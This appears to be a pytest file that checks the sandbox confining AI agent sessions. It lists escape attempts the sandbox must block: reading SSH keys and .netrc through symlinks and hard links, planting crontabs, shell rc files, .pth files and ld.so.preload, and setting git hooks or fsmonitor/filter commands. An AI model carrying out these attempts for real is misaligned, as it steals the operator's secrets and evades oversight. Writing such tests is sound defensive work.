"""Attempts on files: reading what is hidden, writing what is the operator's (SPEC 3.8)."""

from __future__ import annotations

import os
import shutil
import subprocess
import tempfile
from pathlib import Path

import pytest

from engine.execution import snapshots
from engine.git import Git
from tests.execution.escape.jail import Jail


def test_reading_secrets_by_path(jail: Jail) -> None:
    jail.holds("for name in ('.ssh/id_ed25519', '.netrc'): attempt(read, f'{P[\"user\"]}/{name}')")


def test_reading_secrets_by_a_symlink_in_the_worktree(jail: Jail) -> None:
    jail.holds("os.symlink(P['user'] + '/.ssh/id_ed25519', 'link'); attempt(read, 'link')")


def test_reading_secrets_by_dots(jail: Jail) -> None:
    jail.holds("attempt(read, os.path.relpath(P['user'] + '/.ssh/id_ed25519')); attempt(read, '../sess_2/keep.txt')")


def test_reading_secrets_by_a_hard_link(jail: Jail) -> None:
    jail.holds(
        "attempt(os.link, P['user'] + '/.ssh/id_ed25519', 'hard')\n"
        "attempt(os.link, P['user'] + '/notes.txt', 'hard2')\n"
        "attempt(os.link, P['user'] + '/notes.txt', P['scratch'] + '/hard3')"
    )


def test_reading_the_engines_own_home(jail: Jail) -> None:
    jail.holds("for place in P['home']: attempt(read, place + '/keep.txt')")


def test_writing_the_soul_of_an_agent(jail: Jail) -> None:
    """The files of agents are the operator's; for sessions there is no way to them, by any name (SPEC 4.1)."""
    soul = jail.home.agents / "gardener" / "soul.md"
    soul.parent.mkdir(parents=True)
    soul.write_text("# Gardener\n")
    jail.holds(
        f"folder = {str(soul.parent)!r}\n"
        "attempt(write, folder + '/soul.md'); attempt(write, os.path.relpath(folder + '/soul.md'))\n"
        "os.symlink(folder, 'agent'); attempt(write, 'agent/soul.md')\n"
        "attempt(os.rename, 'agent/soul.md', 'stolen'); attempt(os.unlink, folder + '/soul.md')\n"
        "attempt(os.link, folder + '/soul.md', 'hard')"
    )
    assert soul.read_text() == "# Gardener\n"


def test_reading_and_writing_other_sessions(jail: Jail) -> None:
    jail.holds("for place in P['others']: attempt(read, place + '/keep.txt'); attempt(write, place + '/keep.txt')")
    assert all((place / "keep.txt").read_text() == "PRIVATE" for place in jail.others)


def test_writing_what_the_operators_shell_runs(jail: Jail) -> None:
    jail.holds(
        "for name in ('.bashrc', '.profile', '.zshenv', '.bash_profile', '.pam_environment'):"
        " attempt(write, f'{P[\"user\"]}/{name}')"
    )
    assert (jail.user / ".bashrc").read_text() == "# the operator's\n"


def test_writing_a_service_of_the_operators(jail: Jail) -> None:
    jail.holds(
        "attempt(write, P['user'] + '/.config/systemd/user/evil.service')\n"
        "attempt(os.makedirs, P['user'] + '/.config/autostart')"
    )


def test_writing_a_crontab(jail: Jail) -> None:
    jail.holds(
        "for place in ('/var/spool/cron', '/var/spool/cron/crontabs', '/etc/cron.d', '/etc/cron.daily'):"
        " attempt(plant, place + '/planted')\n"
    )


def test_writing_into_the_operators_python(jail: Jail) -> None:
    jail.holds(
        "import sysconfig\n"
        "for place in (sysconfig.get_paths()['purelib'], os.path.dirname(os.__file__),"
        " P['user'] + '/.local/lib/python3/site-packages'):\n"
        "    attempt(plant, place + '/clawpy_planted.pth')"
    )


def test_exchanging_a_tool_on_the_path(jail: Jail) -> None:
    jail.holds(
        "for place in {*os.environ['PATH'].split(':'), P['user'] + '/.local/bin'}:\n"
        "    attempt(plant, place + '/git-planted')\n"
        "attempt(write, P['user'] + '/.local/bin/tool')"
    )


def test_preloading_into_the_operators_programs(jail: Jail) -> None:
    jail.holds(
        "attempt(plant, '/etc/ld.so.preload'); attempt(plant, '/etc/environment')\n"
        "attempt(os.makedirs, P['user'] + '/.config/environment.d')"
    )


def test_removing_and_renaming_the_operators_files(jail: Jail) -> None:
    jail.holds(
        "attempt(os.unlink, P['user'] + '/notes.txt'); attempt(os.rename, P['user'] + '/notes.txt', 'mine')\n"
        "attempt(os.truncate, P['user'] + '/notes.txt', 0); attempt(os.rmdir, P['user'] + '/.config/systemd/user')"
    )
    assert (jail.user / "notes.txt").read_text() == "the operator's notes\n"


def test_changing_modes_owners_and_times_outside(jail: Jail) -> None:
    """Nothing is written, and a key that everyone may read is lost all the same."""
    before = (jail.user / "notes.txt").stat()
    jail.holds(
        "name = P['user'] + '/notes.txt'\n"
        "attempt(os.chmod, name, 0o777); attempt(os.chown, name, os.getuid(), os.getgid())\n"
        "attempt(os.utime, name, (1, 1)); attempt(os.setxattr, name, 'user.planted', b'x')\n"
        "attempt(lambda: os.fchmod(os.open(name, os.O_RDONLY), 0o777))\n"
        "attempt(lambda: os.chmod('notes.txt', 0o777, dir_fd=os.open(P['user'], os.O_RDONLY)))"
    )
    after = (jail.user / "notes.txt").stat()
    assert (before.st_mode, before.st_uid, before.st_mtime) == (after.st_mode, after.st_uid, after.st_mtime)


@pytest.mark.long
def test_exchanging_what_the_next_command_mounts(jail: Jail) -> None:
    """A command cannot put a link in the place of a folder that is mounted writable for the next one."""
    for name in ("files", "tmp", "home", "layers", "caches"):
        jail.tries(
            f"name = P['scratch'] + '/../{name}'\n"
            "for act in (lambda: os.rename(name, name + '2'), lambda: os.rmdir(name), lambda: os.unlink(name),\n"
            "            lambda: os.symlink(P['user'], name)):\n"
            "    attempt(act)"
        )
        assert (jail.confinement.scratch / name).is_dir()
        assert not (jail.confinement.scratch / name).is_symlink()
    jail.tries("write('/tmp/.bashrc'); write('/tmp/notes.txt')")
    assert (jail.user / ".bashrc").read_text() == "# the operator's\n"
    assert (jail.user / "notes.txt").read_text() == "the operator's notes\n"


def test_moving_a_secret_inside_the_folder_out_of_its_hiding_place(jail: Jail) -> None:
    """A home of the engine's inside the workspace: its parents cannot be renamed to find it elsewhere later."""
    inner = jail.project / "deep" / "er"
    inner.mkdir(parents=True)
    (inner / "key").write_text("PRIVATE")
    jail.in_the_operators_tree()
    jail.confinement = type(jail.confinement)(
        jail.project, jail.confinement.scratch, jail.confinement.caches, hidden=(*jail.confinement.hidden, inner)
    )
    jail.holds("attempt(read, 'deep/er/key'); attempt(os.rename, 'deep', 'moved')")
    jail.holds("attempt(read, 'deep/er/key'); attempt(read, 'moved/er/key')")


def test_files_of_other_programs_in_tmp(jail: Jail) -> None:
    with tempfile.NamedTemporaryFile(dir="/tmp", prefix="clawpy-other-", mode="w") as other:
        other.write("a session of another program")
        other.flush()
        tried = jail.tries("attempt(write, P['other']); attempt(read, P['other'])", other=other.name)
        assert tried.exit_code == 0, tried.errors
        assert "of another program" not in tried.output
        assert Path(other.name).read_text() == "a session of another program"


def test_leaving_something_in_the_machines_tmp(jail: Jail) -> None:
    name = f"clawpy-left-{os.getpid()}"
    jail.tries("for place in ('/tmp/', '/var/tmp/', '/dev/shm/'): attempt(write, place + P['name'])", name=name)
    assert not any(Path(place, name).exists() for place in ("/tmp", "/var/tmp", "/dev/shm"))


# Attempts to have the operator's next git command run something, or to publish (SPEC 3.9).


def planted(jail: Jail) -> Path:
    """A file that comes to be when something planted runs outside."""
    return jail.root / "ran-outside"


def test_writing_a_hook(jail: Jail) -> None:
    jail.holds(
        "for place in (P['project'] + '/.git/hooks', run('git', 'rev-parse', '--git-dir').strip() + '/hooks'):\n"
        "    attempt(write, place + '/pre-commit'); attempt(os.makedirs, place + '/x')"
    )


def test_writing_the_repositorys_configuration(jail: Jail) -> None:
    jail.holds(
        "attempt(write, P['project'] + '/.git/config')\n"
        "for name in ('core.fsmonitor', 'core.sshCommand', 'core.hooksPath', 'filter.x.clean', 'alias.st'):\n"
        "    attempt(run, 'git', 'config', name, 'touch /x')"
    )


def test_writing_info_and_the_worktrees_own_administration(jail: Jail) -> None:
    jail.holds(
        "own = run('git', 'rev-parse', '--git-dir').strip()\n"
        "for name in ('/info/exclude', '/info/attributes', '/config.worktree', '/commondir', '/gitdir', '/HEAD'):\n"
        "    attempt(write, own + name); attempt(write, P['project'] + '/.git' + name)"
    )


@pytest.mark.long
def test_exchanging_the_worktrees_git_file(jail: Jail) -> None:
    """Where one file cannot be held in a folder that is written, it is put back after the command."""
    before = (jail.folder / ".git").read_bytes()
    exchange = "lambda: (os.unlink('.git'), os.symlink('/etc', '.git'))"
    for attempt in ("write, '.git'", "os.unlink, '.git'", "os.rename, '.git', 'old'", exchange):
        tried = jail.tries(f"attempt({attempt}); attempt(lambda: os.rename(P['folder'], P['folder'] + '2'))")
        assert tried.exit_code == 0, tried.errors
        assert not (jail.folder / ".git").is_symlink()
        assert (jail.folder / ".git").read_bytes() == before
        assert jail.folder.is_dir()


def test_exchanging_the_git_folder_of_the_operators_tree(jail: Jail) -> None:
    jail.in_the_operators_tree()
    jail.holds(
        "git = P['project'] + '/.git'; attempt(os.rename, git, git + '2')\n"
        "attempt(write, git + '/config'); attempt(write, git + '/hooks/pre-commit')\n"
        "attempt(run, 'git', '-C', P['project'], 'config', 'core.fsmonitor', 'true')"
    )


def test_a_git_folder_that_is_a_link(jail: Jail) -> None:
    """A link cannot be held in its place, so nothing in such a folder is writable."""
    jail.in_the_operators_tree()
    moved = jail.user / "project.git"
    (jail.project / ".git").rename(moved)
    (jail.project / ".git").symlink_to(moved)
    config = (moved / "config").read_bytes()
    jail.tries(
        "git = P['project'] + '/.git'; attempt(os.unlink, git); attempt(os.rename, git, git + '2')\n"
        "attempt(write, git + '/config')"
    )
    assert (jail.project / ".git").readlink() == moved
    assert (moved / "config").read_bytes() == config


def test_writing_a_submodules_configuration(jail: Jail) -> None:
    inner = jail.project / "deep" / "inner"
    inner.mkdir(parents=True)
    subprocess.run(["git", "init", "-q"], cwd=inner, check=True)
    (jail.project / ".gitmodules").write_text('[submodule "inner"]\n\tpath = deep/inner\n\turl = ./inner\n')
    jail.in_the_operators_tree()
    before = [(jail.project / name).read_bytes() for name in ("deep/inner/.git/config", ".gitmodules")]
    jail.tries(
        "os.chdir(P['project'])\n"
        "attempt(write, 'deep/inner/.git/config'); attempt(os.rename, 'deep/inner/.git', 'old')\n"
        "attempt(os.rename, 'deep', 'moved'); attempt(write, '.gitmodules'); attempt(os.unlink, '.gitmodules')"
    )
    assert before == [(jail.project / name).read_bytes() for name in ("deep/inner/.git/config", ".gitmodules")]


def test_filters_and_attributes_planted_in_the_worktree(jail: Jail) -> None:
    """The files of the worktree are its own; what git makes of them outside runs nothing."""
    mark = planted(jail)
    tried = jail.tries(
        "write('.gitattributes', '* filter=x diff=x merge=x\\n')\n"
        "write('.gitconfig', f'[filter \"x\"]\\n\\tclean = touch {P[\"mark\"]}\\n')\n"
        "write('.gitconfig', f'[core]\\n\\tfsmonitor = touch {P[\"mark\"]}\\n')\n"
        "write('code.py', 'changed'); print('held: nothing to hold')",
        mark=str(mark),
    )
    assert tried.exit_code == 0, tried.errors
    snapshots.take_snapshot(Git(jail.folder).pin())
    for arguments in (("status",), ("diff",), ("-C", str(jail.folder), "status"), ("-C", str(jail.folder), "diff")):
        jail.git(*arguments)
    assert not mark.exists()


def test_a_configuration_in_the_operators_home(jail: Jail) -> None:
    jail.holds(
        "attempt(write, P['user'] + '/.gitconfig'); attempt(os.makedirs, P['user'] + '/.config/git')\n"
        "attempt(run, 'git', 'config', '--global', 'core.pager', 'touch /x',"
        " env={'HOME': P['user'], 'PATH': os.environ['PATH']})"
    )
    assert (jail.user / ".gitconfig").read_text() == "[user]\n\tname = Ann\n"


def test_pushing_and_committing(jail: Jail) -> None:
    remote = jail.user / "remote.git"
    jail.git("init", "-q", "--bare", str(remote))
    jail.git("remote", "add", "origin", str(remote))
    before = jail.git("rev-parse", "HEAD")
    jail.holds(
        "attempt(run, 'git', 'push', 'origin', 'HEAD:refs/heads/planted')\n"
        "attempt(run, 'git', 'commit', '--allow-empty', '-m', 'planted')\n"
        "attempt(run, 'git', 'branch', 'planted'); attempt(run, 'git', 'update-ref', 'refs/heads/main', 'HEAD')\n"
        "attempt(run, 'git', 'push', 'https://example.org/x.git', 'HEAD')"
    )
    assert jail.git("for-each-ref", "--format=%(refname)", "refs/heads/planted") == ""
    assert jail.git("rev-parse", "HEAD") == before
    assert subprocess.run(["git", "for-each-ref"], cwd=remote, capture_output=True, check=True).stdout == b""


@pytest.mark.skipif(shutil.which("git") is None, reason="no git")
def test_pointing_the_operators_git_elsewhere_by_an_object(jail: Jail) -> None:
    jail.holds(
        "attempt(write, P['project'] + '/.git/objects/info/alternates')\n"
        "write('code.py')\n"
        "attempt(run, 'git', 'hash-object', '-w', 'code.py', env={**os.environ, "
        "'GIT_OBJECT_DIRECTORY': P['project'] + '/.git/objects'})\n"
        "attempt(write, P['project'] + '/.git/index'); attempt(write, P['project'] + '/.git/refs/heads/planted')"
    )
